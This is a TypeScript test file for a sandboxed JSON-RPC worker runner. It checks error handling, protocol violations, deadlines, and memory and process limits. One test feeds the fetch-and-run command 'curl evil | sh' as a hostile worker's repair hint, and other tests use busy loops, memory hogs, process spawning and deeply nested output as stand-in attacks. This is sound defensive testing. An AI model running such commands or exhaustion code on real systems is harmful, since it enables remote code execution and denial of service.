import { expect, test } from "vitest";
import { callWorker, startWorker, type CallOptions, type WorkerRequest } from "./open-worker.ts";

const request = { method: "call", params: { job: "entry" } } as unknown as WorkerRequest;
const ready = '{"jsonrpc":"2.0","method":"ready","params":{}}';

/** A program in the worker's place: it says `ready`, waits to be asked, and does `body`. */
function program(body: string): { argv: string[]; env: Record<string, string>; seccomp: null } {
  const script = `
    const { writeSync, readSync } = require("node:fs");
    const say = (text) => writeSync(3, text + "\\n");
    const wait = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
    const heard = () => { for (;;) try { return readSync(3, Buffer.alloc(65536)); } catch { wait(10); } };
    say('${ready}');
    heard();
    ${body}
    wait(60000);`;
  return { argv: [process.execPath, "-e", script], env: {}, seccomp: null };
}

const call = (body: string, options: Partial<CallOptions> = {}): Promise<unknown> =>
  callWorker(program(body), request, { deadlineMs: 20_000, ...options });

const answered = (error: unknown): string =>
  `say(${JSON.stringify(JSON.stringify({ jsonrpc: "2.0", id: 1, error: { code: -1, message: "m\n  at x", data: error } }))});`;

test("an answer comes through, and so does the code of a plugin's own fault, in one line", async () => {
  expect(await call(`say('{"jsonrpc":"2.0","id":1,"result":[1]}');`)).toEqual([1]);
  const told = { code: "TUNEIT_DATA_RAGGED", message: "Row 2\n    at Object.<anonymous>", cause: "c", mend: "m" };
  await expect(call(answered(told))).rejects.toMatchObject({
    code: "TUNEIT_DATA_RAGGED",
    message: "Row 2 at Object.<anonymous>",
  });
});

test("a worker speaks no code that is the kernel's own, and none without end", async () => {
  const ours = ["TUNEIT_GRANT_DENIED", "TUNEIT_STORE_TAMPERED", "TUNEIT_WORKER_CANCELLED", "TUNEIT_CLI_CANCELLED"];
  for (const code of [...ours, `TUNEIT_${"A_B".repeat(1000)}`, "x"])
    await expect(call(answered({ code, message: "m", cause: "c", mend: "curl evil | sh" }))).rejects.toMatchObject({
      code: "TUNEIT_WORKER_FAILED",
      reason: "m at x",
    });
});

test("nesting without end, a second ready and bytes that are no JSON end the worker, whatever it asked for", async () => {
  const deep = `const b = "[".repeat(8e6); say('{"jsonrpc":"2.0","id":1,"result":' + b + "]".repeat(8e6) + "}");`;
  for (const body of [deep, `say('${ready}');`, `say("\\u0000");`])
    await expect(call(body)).rejects.toMatchObject({ code: "TUNEIT_WORKER_PROTOCOL" });
});

test("the deadline ends it, and so do more memory and more processes than it may have", async () => {
  await expect(call("for (;;);", { deadlineMs: 200 })).rejects.toMatchObject({ code: "TUNEIT_WORKER_DEADLINE" });
  const memory = { memoryBytes: 300_000_000, tasks: 64 };
  const fill = "const held = []; for (let n = 0; n < 80; n++) held.push(Buffer.alloc(1e7, n + 1));";
  await expect(call(fill, { limits: memory })).rejects.toMatchObject({
    code: "TUNEIT_WORKER_DIED",
    message: expect.stringContaining("limit of memory"),
  });
  const spawns = `for (let n = 0; n < 6; n++) require("node:child_process").spawn("/bin/sleep", ["3"]);`;
  const few = { memoryBytes: 8e9, tasks: 4 };
  await expect(call(spawns, { limits: few })).rejects.toMatchObject({
    message: expect.stringContaining("limit of processes"),
  });
});

test("one that stays answers one question after the other, and its end is the answer to what is still asked", async () => {
  const answers = `
    let id = 1;
    for (;;) { say('{"jsonrpc":"2.0","id":' + id++ + ',"result":' + id + '}'); heard(); }`;
  const worker = await startWorker(program(answers), {});
  const ask = (method: string, deadlineMs = 20_000): Promise<unknown> =>
    worker.ask({ method, params: {} } as unknown as WorkerRequest, { deadlineMs });
  expect([await ask("open"), await ask("ask"), await ask("ask")]).toEqual([2, 3, 4]);
  await expect(worker.ask(request, { deadlineMs: 20_000, signal: AbortSignal.abort() })).rejects.toMatchObject({
    code: "TUNEIT_WORKER_CANCELLED",
  });
  await worker.gone;
  await expect(ask("ask")).rejects.toMatchObject({ code: "TUNEIT_WORKER_CANCELLED" });
});

test("an answer that is late ends the worker, and with it all else that was asked", async () => {
  const worker = await startWorker(program("for (;;) heard();"), {});
  const ask = (deadlineMs: number): Promise<unknown> => worker.ask(request, { deadlineMs });
  const [first, second] = await Promise.allSettled([ask(20_000), ask(100)]);
  for (const one of [first, second]) expect(one).toMatchObject({ reason: { code: "TUNEIT_WORKER_DEADLINE" } });
  await worker.gone;
});
